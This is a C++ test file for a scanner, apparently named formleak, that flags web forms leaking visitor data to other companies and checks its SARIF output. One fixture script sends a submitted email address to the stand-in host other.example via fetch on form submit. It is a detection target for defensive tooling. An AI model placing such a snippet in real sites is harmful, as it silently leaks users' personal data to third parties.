// SARIF as a code-scanning service gets it: valid by the official schema, and its places are files of the
// checkout.
#include <doctest/doctest.h>

#include <algorithm>
#include <filesystem>

#include "tests/e2e/attacks/limited_run.h"
#include "tests/support/json_schema.h"

using namespace formleak;
using namespace formleak::test;

namespace {

namespace fs = std::filesystem;

// A page that hands an address to another company, in a checkout.
struct Checkout {
    TempFolder folder;
    Checkout() {
        for (const char* name : {"build/kontakt.html", "build/s\xC3\xB6k/a b.html", "elsewhere/x.html"})
            folder.write(name,
                         page_of("<script src=/js/app.js></script><form method=post "
                                 "action='https://other.example/x'><input type=email name=email></form>"));
        folder.write("build/js/app.js",
                     "document.querySelector('form').addEventListener('submit',function(e){fetch('https://"
                     "other.example/y?e='+e.target.email.value)});");
        folder.write("repo/.keep", "");
    }
    // Run in the checkout.
    Json sarif(std::vector<std::string> arguments, const std::string& in = "") const {
        arguments.insert(arguments.begin(), "scan");
        arguments.insert(arguments.end(), {"--offline", "--format", "sarif"});
        const Outcome outcome = run_in_shell("cd " + folder.path() + "/" + in + "; exec \"$@\"", arguments);
        CHECK(outcome.exit_code == 1);
        const auto json = parse_json(outcome.out);
        REQUIRE_MESSAGE(json.ok(), outcome.err);
        const auto schema = parse_json(read_file(FORMLEAK_SARIF_SCHEMA));
        REQUIRE(schema.ok());
        CHECK(testing::find_schema_violations(*schema, *json) == std::vector<std::string>{});
        return *json;
    }
};

// Every address of a place, sorted, each once.
std::vector<std::string> places_of(const Json& sarif) {
    std::vector<std::string> out;
    for (const Json& result : sarif["runs"].items()[0]["results"].items())
        for (const char* list : {"locations", "relatedLocations"})
            for (const Json& place : result[list].items()) {
                const Json& file = place["physicalLocation"]["artifactLocation"];
                CHECK(file["uriBaseId"].as_text() == "%SRCROOT%");
                out.push_back(file["uri"].as_text());
            }
    std::sort(out.begin(), out.end());
    out.erase(std::unique(out.begin(), out.end()), out.end());
    return out;
}

}  // namespace

TEST_CASE("sarif: places in a folder are files of the checkout, as the user named the folder") {
    const Checkout checkout;
    const std::vector<std::string> kFiles = {"build/js/app.js", "build/kontakt.html",
                                             "build/s%C3%B6k/a%20b.html"};
    const std::vector<std::vector<std::string>> kWays = {
        {"build"},
        {"build/"},
        {"./build"},
        {checkout.folder.file("build")},
        {"build", "--base-url", "https://www.example.se"},
        {"build/", "--base-url", "https://www.example.se/shop/"},
    };
    for (const auto& way : kWays) {
        CAPTURE(way.front());
        CAPTURE(way.size());
        const Json sarif = checkout.sarif(way);
        const auto places = places_of(sarif);
        CHECK(std::find(places.begin(), places.end(), kFiles[1]) != places.end());
        CHECK(std::find(places.begin(), places.end(), kFiles[2]) != places.end());
        for (const std::string& place : places)
            CHECK(std::find(kFiles.begin(), kFiles.end(), place) != kFiles.end());
        const Json& base = sarif["runs"].items()[0]["originalUriBaseIds"]["%SRCROOT%"];
        CHECK(base["uri"].as_text() == "file://" + fs::canonical(checkout.folder.path()).string() + "/");
    }
    CHECK(places_of(checkout.sarif({"build/kontakt.html"})).front() == "build/kontakt.html");
    CHECK(places_of(checkout.sarif({"."}, "build")).back() == "s%C3%B6k/a%20b.html");
    CHECK(places_of(checkout.sarif({"elsewhere", "build"})).back() == "elsewhere/x.html");
}

TEST_CASE("sarif: the help of a rule speaks of the vendor's setting, and leaves nothing to be filled in") {
    TempFolder folder;
    folder.write("site/index.html", page_of(pixel("1029384756102938")));
    const Outcome outcome = run_formleak({"scan", folder.file("site"), "--offline", "--format", "sarif"});
    CHECK(has(outcome.out, "Look at Events Manager"));
    for (const char* hole : {"{setting}", "{account}"}) CHECK_FALSE(has(outcome.out, hole));
}

TEST_CASE("sarif: a stored report finds its files again, and a folder elsewhere is said whole") {
    const Checkout checkout;
    const std::string stored = checkout.folder.file("r.json");
    run_in_shell("cd " + checkout.folder.path() + "; exec \"$@\"",
                 {"scan", "build", "--offline", "-o", stored});
    const Outcome outcome = run_in_shell("cd " + checkout.folder.path() + "; exec \"$@\"",
                                         {"report", stored, "--format", "sarif"});
    const auto json = parse_json(outcome.out);
    REQUIRE(json.ok());
    CHECK(places_of(*json).back() == "build/s%C3%B6k/a%20b.html");
    // From another folder of the same disk.
    const Json elsewhere = checkout.sarif({"../build"}, "repo");
    const std::string uri = elsewhere["runs"]
                                .items()[0]["results"]
                                .items()[0]["locations"]
                                .items()[0]["physicalLocation"]["artifactLocation"]["uri"]
                                .as_text();
    CHECK(uri.starts_with("file://" + fs::canonical(checkout.folder.path()).string() + "/build/"));
}
